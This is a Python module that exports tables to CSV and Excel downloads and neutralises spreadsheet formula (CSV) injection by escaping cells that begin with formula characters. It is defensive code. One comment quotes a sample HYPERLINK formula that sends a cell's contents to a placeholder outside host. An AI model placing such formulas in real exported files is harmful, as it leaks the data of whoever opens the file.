"""Tables to files: CSV (streamed, UTF-8 with a BOM) and Excel (write-only, to a temporary
file), and the download response for either. Every export of the project writes through
these, so values look the same in all of them and re-import cleanly.

Every cell is written by `csv_chunks` or `xlsx_cell` (the satisfaction report's workbook too),
and both neutralise text a spreadsheet would run as a formula: see `spreadsheet_text`.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import re
import tempfile
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import IO, TYPE_CHECKING

from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell as XlsxCell

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("csv", "xlsx")


def table_download(rows: Iterable[list], *, fmt: str, filename: str, title: str) -> HttpResponse:
    """Rows (the header first) as a CSV or Excel attachment."""
    if fmt == "xlsx":
        return FileResponse(
            xlsx_file(rows, title=title), as_attachment=True, filename=filename,
            content_type=XLSX_TYPE,
        )  # fmt: skip
    response = StreamingHttpResponse(csv_chunks(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(
        as_attachment=True, filename=filename
    )
    return response


# Formulas
#
# Excel, LibreOffice and Google Sheets read a cell that starts with one of these as a formula
# (tab and CR because some of them drop a leading one and read on), so an open answer
# `=HYPERLINK("http://x/?"&A1,"click")` would run in the office of whoever opens the export.
FORMULA_STARTS = frozenset("=+-@\t\r")
# A plain number such as -5 or +8613800138000 is read as that number, never as a formula.
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")


def spreadsheet_text(value: str) -> str:
    """Text as a cell no spreadsheet runs (the OWASP advice for "CSV injection"): text that
    starts like a formula gets a leading apostrophe, which spreadsheets take as "this is text".

    Text that already starts with apostrophes before such a character gets one more, so that
    `spreadsheet_text_read` gives back exactly what was written, whatever it was."""
    if value.lstrip("'")[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def spreadsheet_text_read(value: str) -> str:
    """The inverse of `spreadsheet_text`, for files coming back in (the importer): one
    apostrophe is dropped, and only where `spreadsheet_text` would have added it."""
    return value[1:] if _NEUTRALISED.match(value) else value


# CSV


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_chunks(rows: Iterable[list], *, batch: int = 500) -> Iterator[bytes]:
    """UTF-8 with a BOM: Excel then shows Chinese text correctly."""
    writer = csv.writer(_Echo())
    yield codecs.BOM_UTF8
    lines: list[str] = []
    for row in rows:
        lines.append(writer.writerow([_csv_value(value) for value in row]))
        if len(lines) >= batch:
            yield "".join(lines).encode()
            lines.clear()
    if lines:
        yield "".join(lines).encode()


def _csv_value(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, dt.datetime):
        local = timezone.localtime(value)
        return local.strftime("%Y-%m-%d %H:%M:%S.%f" if local.microsecond else "%Y-%m-%d %H:%M:%S")
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, int | float):
        return str(value)  # a number, negative or not, goes out as one
    return spreadsheet_text(str(value))


# Excel


def xlsx_file(rows: Iterable[list], *, title: str) -> IO[bytes]:
    """A workbook in a temporary file (write-only mode: rows go to disk as they come)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    for row in rows:
        xlsx_append(sheet, row)
    out = tempfile.TemporaryFile()  # noqa: SIM115 - the response closes it once sent
    workbook.save(out)
    out.seek(0)
    return out


def xlsx_append(sheet, values: Iterable) -> list[XlsxCell]:
    """Append a row of `xlsx_cell`s to a worksheet (write-only or not) and return the cells,
    which in a normal worksheet can still be styled."""
    cells = [xlsx_cell(sheet, value) for value in values]
    sheet.append(cells)
    return cells


def xlsx_cell(sheet, value) -> XlsxCell:
    """The one way a value becomes an Excel cell: numbers and dates as such, text always as a
    text cell (never a formula or an error code such as #N/A), neutralised like CSV text."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, bool):
        value = "yes" if value else "no"
    elif isinstance(value, dt.datetime) and value.tzinfo is not None:
        # Excel has no time zones: local wall-clock time, which the importer reads back as such.
        value = timezone.localtime(value).replace(tzinfo=None)
    if value is None or isinstance(value, int | float | Decimal | dt.date | dt.time):
        return WriteOnlyCell(sheet, value=value)
    text = spreadsheet_text(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl would make a formula of "=..." and an error of "#N/A"
    return cell
